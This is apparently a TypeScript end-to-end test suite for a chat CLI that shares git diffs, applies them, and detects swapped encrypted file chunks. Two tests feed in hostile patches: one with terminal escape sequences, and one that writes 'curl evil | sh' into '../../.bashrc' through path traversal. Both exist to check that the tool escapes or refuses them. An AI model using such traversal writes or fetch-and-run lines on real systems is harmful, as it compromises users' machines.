// Shared diffs end to end: the CLI in a temporary git repository sends `git diff` (and a patch
// from stdin's stand-in, a file), bob's client reads it back and applies it, `teamchat read`
// prints it as a diff; a diff over the inline limit travels as an encrypted file, and a server
// that swaps that file's chunks is caught (the chunks are sealed to their file and its hash).
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { FileChunkError, MemorySecretStore, TeamChatClient, type ChatMessage, type Group } from '../../client';
import { applyParsedPatch } from '../../common/code/patch-apply';
import { parseUnifiedDiff } from '../../common/code/patch-parse';
import { BACKENDS, ServerWorld, TEST_CLIENT_OPTIONS } from './support/chat-world';
import { runTeamchat } from './support/cli-run';
import { findSecrets } from './support/secret-scan';

const RETRY = ['export async function retry(fn, times) {', '  for (let i = 0; ; i++) {', '    try {', '      return await fn();', '    } catch (e) {', '      if (i >= times) throw e;', '    }', '  }', '}', ''].join('\n');
const BACKOFF = RETRY.replace('if (i >= times) throw e;', 'if (i >= times) throw e;\n      await sleep(2 ** i * 100); // DIFF-MARKER-BACKOFF');

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=dave', '-c', 'user.email=dave@example.test', ...args], { cwd, encoding: 'utf8' });
}

/** A repository with src/retry.ts committed, then changed in the working tree. */
function repoWithChange(): string {
  const repo = mkdtempSync(path.join(os.tmpdir(), 'teamchat-diff-'));
  git(repo, 'init', '-q');
  writeFileSync(path.join(repo, 'retry.ts'), RETRY);
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'retry');
  writeFileSync(path.join(repo, 'retry.ts'), BACKOFF);
  return repo;
}

/** `teamchat` run with `cwd` as the current directory, as in a terminal there. */
async function teamchatIn(cwd: string, argv: string[], env: Record<string, string>) {
  const before = process.cwd();
  process.chdir(cwd);
  try {
    return await runTeamchat(argv, env);
  } finally {
    process.chdir(before);
  }
}

for (const backend of BACKENDS) {
  describe(`shared diffs on the ${backend} database`, function () {
    this.timeout(240_000);
    let world: ServerWorld;
    let bob: TeamChatClient;
    let group: Group;
    let repo: string;
    let env: Record<string, string>;
    let profile: string;

    before(async () => {
      // A small file limit, so a diff over it is quick to make.
      world = await ServerWorld.start(backend, { TEAMCHAT_MAX_FILE_MB: '1' });
      bob = await TeamChatClient.signUp(world.url, 'bob', 'bob: reviews every diff', new MemorySecretStore(), TEST_CLIENT_OPTIONS);
      await bob.connect();
      profile = mkdtempSync(path.join(os.tmpdir(), 'teamchat-diff-profile-'));
      env = { TEAMCHAT_PROFILE: profile, TEAMCHAT_PASSPHRASE: 'dave: shares diffs from a terminal', TEAMCHAT_SERVER: world.url };
      assert.equal((await runTeamchat(['register', 'dave'], env)).code, 0);
      group = await bob.createGroup('diff review');
      const seen = runTeamchat(['groups'], env);
      await bob.addMember(group.id, 'dave');
      await seen;
      repo = repoWithChange();
    });
    after(async () => {
      await bob?.signOut().catch(() => undefined);
      await world?.close();
      for (const dir of [repo, profile]) if (dir) rmSync(dir, { recursive: true, force: true });
    });

    it('`send --diff` shares `git diff` of the current directory; bob applies it cleanly; `read` prints it as a diff', async () => {
      const sent = await teamchatIn(repo, ['send', group.id, '--diff', 'adds', 'backoff', '--json'], env);
      assert.equal(sent.code, 0, sent.stderr);
      const message = JSON.parse(sent.stdout) as ChatMessage;
      assert.equal(message.kind, 'diff');
      assert.equal(message.body, 'adds backoff');
      assert.equal(message.diff?.source, 'working');
      assert.match(message.diff?.label ?? '', /^working tree of teamchat-diff-/);
      assert.deepEqual(message.diff?.files, [{ path: 'retry.ts', status: 'modified', added: 1, removed: 0 }]);
      assert.ok(message.diff?.patch?.includes('DIFF-MARKER-BACKOFF'), 'inline');

      const seen = (await bob.history(group.id)).find((m) => m.msgId === message.msgId);
      assert.ok(seen?.diff);
      const result = applyParsedPatch(parseUnifiedDiff(await bob.diffs.patchOf(seen)), new Map([['retry.ts', RETRY]]));
      assert.equal(result.ok, true);
      assert.equal(result.files[0]?.after, BACKOFF);

      const read = await runTeamchat(['read', group.id], env);
      assert.equal(read.code, 0, read.stderr);
      const lines = read.stdout.split('\n');
      const head = lines.findIndex((l) => l.includes('--- diff: working tree of'));
      assert.ok(head > 0, read.stdout);
      assert.match(lines[head]!, /--- diff: working tree of teamchat-diff-\S+: 1 file, \+1 -0$/);
      assert.ok(lines.includes('  +      await sleep(2 ** i * 100); // DIFF-MARKER-BACKOFF'), read.stdout);
      assert.ok(lines.some((l) => /^ {2}@@ -\d+,\d+ \+\d+,\d+ @@/.test(l)), 'the hunk header');
      assert.ok(!read.stdout.includes('\x1b['), 'no colour when stdout is not a terminal');
    });

    it('a diff from a patch file, with hostile text in it, prints with its control characters escaped', async () => {
      const patchFile = path.join(profile, 'evil.diff');
      writeFileSync(patchFile, '--- a/x.txt\n+++ b/x.txt\n@@ -1 +1 @@\n-old\n+new \x1b]52;c;Y3VybA==\x07 \x1b[2J\n');
      const sent = await runTeamchat(['send', group.id, '--diff', patchFile, 'careful'], env);
      assert.equal(sent.code, 0, sent.stderr);
      const read = await runTeamchat(['read', group.id], env);
      assert.ok(read.stdout.includes('  +new \\x1b]52;c;Y3VybA==\\x07 \\x1b[2J'), read.stdout);
      assert.ok(!read.stdout.includes('\x1b'), 'no raw escape reaches the terminal');
    });

    it('refuses a diff that writes outside the repository, and an empty one, in words', async () => {
      const patchFile = path.join(profile, 'escape.diff');
      writeFileSync(patchFile, '--- a/../../.bashrc\n+++ b/../../.bashrc\n@@ -1 +1 @@\n-a\n+curl evil | sh\n');
      const escaping = await runTeamchat(['send', group.id, '--diff', patchFile], env);
      assert.notEqual(escaping.code, 0);
      assert.match(escaping.stderr, /outside the repository/);
      const clean = mkdtempSync(path.join(os.tmpdir(), 'teamchat-diff-clean-'));
      try {
        git(clean, 'init', '-q');
        const empty = await teamchatIn(clean, ['send', group.id, '--diff'], env);
        assert.notEqual(empty.code, 0);
        assert.match(empty.stderr, /There are no changes: git diff is empty/);
      } finally {
        rmSync(clean, { recursive: true, force: true });
      }
    });

    it('a diff over the inline limit travels as an encrypted file; read fetches and prints it; the server sees no line of it', async () => {
      const big = Array.from({ length: 3_000 }, (_, i) => `export const value${i} = ${i}; // BIG-DIFF-LINE`).join('\n') + '\n';
      writeFileSync(path.join(repo, 'big.ts'), big);
      git(repo, 'add', 'big.ts');
      const sent = await teamchatIn(repo, ['send', group.id, '--diff', '--staged', 'generated BIG-DIFF-COMMENT', '--json'], env);
      assert.equal(sent.code, 0, sent.stderr);
      const message = JSON.parse(sent.stdout) as ChatMessage;
      assert.equal(message.diff?.source, 'staged');
      assert.equal(message.diff?.patch, undefined, 'not inline');
      assert.equal(message.file?.name, 'changes.diff');
      assert.deepEqual(message.diff?.files, [{ path: 'big.ts', status: 'added', added: 3_000, removed: 0 }]);
      const seen = (await bob.history(group.id)).find((m) => m.msgId === message.msgId)!;
      const patch = await bob.diffs.patchOf(seen);
      assert.equal(patch, git(repo, 'diff', '--cached', '--no-color'));
      const created = applyParsedPatch(parseUnifiedDiff(patch), new Map());
      assert.equal(created.files[0]?.after, big);
      const read = await runTeamchat(['read', group.id], env);
      assert.ok(read.stdout.includes('  +export const value2999 = 2999; // BIG-DIFF-LINE'), read.stdout.slice(-2000));
      const dump = await world.dump();
      if (backend === 'embedded') await world.startServer();
      assert.deepEqual(findSecrets(dump, [{ label: 'a line of the diff', text: 'BIG-DIFF-LINE' }, { label: 'the diff comment', text: 'BIG-DIFF-COMMENT' }, { label: 'a changed path', text: 'big.ts' }]), []);
    });

    it('a server that swaps the attached diff for another file\'s chunks is caught, and nothing is shown as the diff', async () => {
      const first = await sendBig('FIRST');
      const second = await sendBig('SECOND');
      await world.sql('UPDATE file_chunks c SET data = o.data FROM file_chunks o WHERE c.file_id = $1 AND c.idx = 0 AND o.file_id = $2 AND o.idx = 0', [first.file!.id, second.file!.id]);
      const fresh = await TeamChatClient.signIn(world.url, 'bob', 'bob: reviews every diff', new MemorySecretStore(), TEST_CLIENT_OPTIONS);
      try {
        const seen = (await fresh.history(group.id)).find((m) => m.msgId === first.msgId)!;
        await assert.rejects(fresh.diffs.patchOf(seen), (error: unknown) => error instanceof FileChunkError);
        const read = await runTeamchat(['read', group.id], env);
        assert.equal(read.code, 0);
        assert.match(read.stderr, new RegExp(`The diff of message ${first.msgId} could not be fetched`));
        const lines = read.stdout.split('\n');
        const at = lines.findIndex((l) => l.startsWith(`#${first.seq} `));
        const end = lines.findIndex((l, i) => i > at && l.startsWith('#'));
        const shown = lines.slice(at, end < 0 ? undefined : end);
        assert.ok(at >= 0 && shown.some((l) => l.includes('FIRST.txt +3000 -0')), `its file list is shown instead: ${shown.join('\n')}`);
        assert.ok(!shown.some((l) => l.includes('SECOND-LINE')), 'the other file\'s text is never printed as this diff');
      } finally {
        await fresh.signOut().catch(() => undefined);
      }
    });

    it('refuses a diff larger than the server takes as a file, before uploading anything', async () => {
      const { maxFileBytes } = await bob.files.limits();
      const line = `+${'x'.repeat(999)}\n`;
      const patch = `--- a/huge.txt\n+++ b/huge.txt\n@@ -0,0 +1,${Math.ceil(maxFileBytes / 1000) + 1} @@\n${line.repeat(Math.ceil(maxFileBytes / 1000) + 1)}`;
      await assert.rejects(bob.sendDiff(group.id, { source: 'working', label: 'huge', patch }), /more than the \d+ bytes this server takes as a file/);
    });

    async function sendBig(marker: string): Promise<ChatMessage> {
      const text = Array.from({ length: 3_000 }, (_, i) => `+${marker}-LINE ${i}`).join('\n');
      const patch = `--- a/${marker}.txt\n+++ b/${marker}.txt\n@@ -0,0 +1,3000 @@\n${text}\n`;
      const sent = await bob.sendDiff(group.id, { source: 'working', label: marker, patch });
      assert.ok(sent.file, 'as a file');
      return sent;
    }
  });
}
